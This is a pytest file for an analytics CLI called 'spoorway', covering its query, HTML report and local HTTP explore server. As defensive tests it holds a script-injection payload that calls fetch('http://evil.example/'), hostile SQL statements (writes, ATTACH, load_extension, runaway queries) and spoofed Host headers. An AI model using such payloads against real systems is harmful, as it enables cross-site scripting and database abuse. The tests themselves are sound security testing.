"""`spoorway ask`, `report` and `explore` as a person meets them: the commands, the page in Chromium, Datasette over HTTP."""

from __future__ import annotations

import contextlib
import http.client
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchmarks import month
from protocol.schemas import bundled
from protocol.seams import Position
from spoorway.building import now_ms
from spoorway.cli import main
from storage.sql import questions
from storage.targets import Batch
from storage.targets.sqlite import Config, Plugin
from tests.contracts.asked_events import EVENTS, FAILED
from tests.peers.browser_peer import ARGUMENTS
from tests.peers.programs import CHROMIUM, missing

ROOT = Path(__file__).parents[2]
HOSTILE = "<script>fetch('http://evil.example/')</script>\x1b[31m"
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A month that has just passed, the small world of March, and a page whose name is an attack."""
    folder = tmp_path_factory.mktemp("asked")
    target = Plugin(Config(str(folder / "events.db")), bundled)
    events = [*month.events(6_000, now_ms()), *EVENTS]
    events.append({**events[0], "event_id": "f" * 36, "event": "page_view", "page_urlhost": HOSTILE, "page_urlpath": "/"})
    for number, at in enumerate(range(0, len(events), 2_000), 1):
        target.commit(Batch(events[at : at + 2_000], FAILED if number == 1 else [], {"lane": Position(1, number, number)}, 1))
    target.close()
    return folder


def spoorway(*arguments: str, code: int = 0) -> str:
    """What the command says: on standard output, or of its refusal on standard error."""
    out, complaint = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(complaint):
        assert main(arguments) == code, complaint.getvalue()
    return complaint.getvalue() if code else out.getvalue()


# ask ------------------------------------------------------------------------------------------------------------------


def test_every_question_is_listed_and_shown() -> None:
    listed = [json.loads(line) for line in spoorway("ask", "list", "--json").splitlines()]
    assert [one["name"] for one in listed] == list(questions())
    assert "Devices and sensors\n" in spoorway("ask", "list")
    shown = spoorway("ask", "show", "sessions", "--dialect", "postgres")
    assert "bounce_percent" in shown and "%(since)s" in shown
    assert json.loads(spoorway("ask", "show", "sessions", "--json"))["dialect"] == "sqlite"


def test_a_question_is_answered_as_table_json_csv_and_chart(data: Path) -> None:
    asked = ("ask", "run", "failed", "--data", str(data), "--since", "2026-03-01", "--until", "2026-03-16")
    assert "adapter_failures" in spoorway(*asked).splitlines()[3]
    assert json.loads(spoorway(*asked, "--json").splitlines()[0])["events"] == 3
    assert spoorway(*asked, "--format", "csv").splitlines()[0] == "kind,reason,app_id,events,solved,last_seen"
    assert "█ 3" in spoorway(*asked, "--chart")


def test_parameters_are_set_by_name(data: Path) -> None:
    asked = ("ask", "run", "sensor_series", "--data", str(data), "--since", "2026-03-01", "--until", "2026-03-16", "--json")
    rows = spoorway(*asked, "--set", "field=humidity_percent", "--set", "device=d1", "--set", "step_s=86400")
    assert [json.loads(line)["readings"] for line in rows.splitlines()] == [5]


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("sesions",), "there is no question 'sesions'"),
        (("pages", "--set", "top"), "expected NAME=VALUE"),
        (("pages", "--since", "soon"), "since: expected a time"),
        (("pages", "--on", "mysql"), "--on: expected sqlite"),
        (("pages", "--on", "nothing.parquet"), "nothing.parquet"),
        (("pages", "--chart", "--json"), "--chart: not with --format"),
    ],
)
def test_what_cannot_be_asked_is_told_in_a_line(data: Path, arguments: tuple[str, ...], said: str) -> None:
    complaint = spoorway("ask", "run", *arguments, "--data", str(data), code=1)
    assert said in complaint
    assert complaint.count("\n") == 1


# report ---------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def report(data: Path) -> Path:
    path = data / "report.html"
    told = spoorway("report", "--data", str(data), "--since", "30d", "--output", str(path), "--title", "Our <month>", "--json")
    assert json.loads(told) == {"file": str(path), "answered": 33, "unanswered": ["failed"], "bytes": path.stat().st_size}
    return path


def test_the_page_asks_for_nothing_and_is_legible_by_day_and_by_night(report: Path) -> None:
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        missing("chromium")
    asked: list[str] = []
    said: list[str] = []
    inks: list[list[str]] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(ARGUMENTS))
        for scheme in ("light", "dark"):
            page = browser.new_page(color_scheme=scheme, viewport={"width": 400, "height": 800})  # type: ignore[arg-type]
            page.on("request", lambda request: asked.append(request.url))
            page.on("console", lambda message: said.append(message.text))
            page.goto(report.as_uri())
            assert page.locator("article").count() == 33
            assert page.locator("article figure svg").count() == 33
            assert page.title() == "Our <month>"
            assert page.locator("script").count() == 0
            assert "fetch('http://evil.example/')" in page.locator("#pages").text_content()  # type: ignore[operator]
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")  # a telephone shows all of it
            inks.append(page.evaluate(CONTRASTS))
        browser.close()
    assert set(asked) == {report.as_uri()}
    assert said == []
    assert inks[0] != inks[1]
    assert all(float(contrast) >= 4.5 for contrast in inks[0] + inks[1])


# Of each kind of text in the charts and tables: its contrast with the card behind it, as the WCAG reckons it.
CONTRASTS = """() => {
  const light = (color) => color.match(/[\\d.]+/g).slice(0, 3).map((c) => c / 255)
    .map((c) => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
    .reduce((sum, c, place) => sum + c * [0.2126, 0.7152, 0.0722][place], 0);
  const card = light(getComputedStyle(document.querySelector("article")).backgroundColor);
  const texts = [...document.querySelectorAll("article svg text")].map((text) => getComputedStyle(text).fill)
    .concat([...document.querySelectorAll("h3, td, th, .period, .notes, summary")].map((one) => getComputedStyle(one).color));
  return [...new Set(texts)].map((color) => light(color)).map((ink) =>
    ((Math.max(ink, card) + 0.05) / (Math.min(ink, card) + 0.05)).toFixed(2));
}"""


def test_a_report_of_one_group_of_another_store(data: Path, tmp_path: Path) -> None:
    spoorway("export", "--data", str(data), "--format", "parquet", "--output", str(tmp_path / "all.parquet"))
    period = ("--since", "2026-03-01", "--until", "2026-03-16", "--output", str(tmp_path / "game.html"))
    told = spoorway("report", "--on", str(tmp_path / "all.parquet"), "--group", "game", *period)
    assert told.startswith(f"{tmp_path / 'game.html'}: 4 questions answered")
    page = (tmp_path / "game.html").read_text("utf-8")
    assert re.findall(r'<article id="(\w+)"', page) == ["levels", "economy", "level_failures", "player_retention"]
    assert "<td>hat</td>" in page


# explore --------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def port(data: Path) -> Iterator[int]:
    log = data / "explore.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "spoorway", "explore", "--data", str(data), "--http", ":0", "--limit", "3"],
            cwd=ROOT, stdout=out, stderr=out, env=os.environ | {"PYTHONWARNINGS": "ignore"},
        )  # fmt: skip
    end = time.monotonic() + 60
    while (found := re.search(r"http://127\.0\.0\.1:(\d+)/", log.read_text())) is None:
        assert time.monotonic() < end and process.poll() is None, log.read_text()
        time.sleep(0.05)
    yield int(found[1])
    process.send_signal(signal.SIGINT)
    assert process.wait(30) in (0, 130, -signal.SIGINT)


def get(port: int, path: str, host: str = "127.0.0.1:1") -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request("GET", path, headers={"Host": host})
    answer = connection.getresponse()
    body = answer.read().decode()
    connection.close()
    return answer.status, body


def ask(port: int, sql: str) -> dict[str, Any]:
    return dict(json.loads(get(port, f"/events.json?{urllib.parse.urlencode({'sql': sql})}")[1]))


def test_every_question_is_a_query_with_its_defaults(port: int) -> None:
    for name in questions():
        status, body = get(port, f"/events/{name}.json?_shape=objects")
        found = json.loads(body)
        assert (status, found["ok"]) == (200, True), f"{name}: {body[:500]}"
        assert found["columns"] == [column.name for column in questions()[name].columns]
    rows = json.loads(get(port, "/events/levels.json?since=2026-03-01&until=2026-03-16&_shape=array")[1])
    assert [(row["level"], row["tries"]) for row in rows] == [("L1", 3), ("L2", 1)]


def test_pages_dashboards_and_the_map_are_there(port: int) -> None:
    assert "latest_events" in get(port, "/events")[1]
    for name in ("overview", "devices"):
        assert "vega" in get(port, f"/-/dashboards/{name}")[1]
    status, page = get(port, "/events/places")
    assert status == 200 and "cluster-map" in page and "openstreetmap" not in page
    assert HOSTILE not in get(port, "/events/latest_events")[1]


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO events (event_id) VALUES ('x')",
        "WITH x AS (SELECT 1) INSERT INTO events (event_id) SELECT 'x'",
        "WITH x AS (SELECT 1) DELETE FROM events",
        "ATTACH '/tmp/other.db' AS other",
        "PRAGMA query_only = 0",
        "PRAGMA user_version = 99",
        "SELECT load_extension('x')",
        "SELECT length(zeroblob(100000000))",
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c",
    ],
)
def test_sql_cannot_write_attach_or_run_away(port: int, sql: str) -> None:
    assert ask(port, sql)["ok"] is False
    assert ask(port, "SELECT count(*) FROM events WHERE event_id = 'x'")["rows"] == [[0]]


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example:1", ""])
def test_no_page_of_another_name_can_reach_it(port: int, host: str) -> None:
    assert get(port, "/events.json", host)[0] == 421
    assert get(port, "/events.json", "localhost:9")[0] == 200


def test_it_listens_on_loopback_only(data: Path) -> None:
    assert "is no loopback address" in spoorway("explore", "--data", str(data), "--http", "0.0.0.0:8002", code=1)
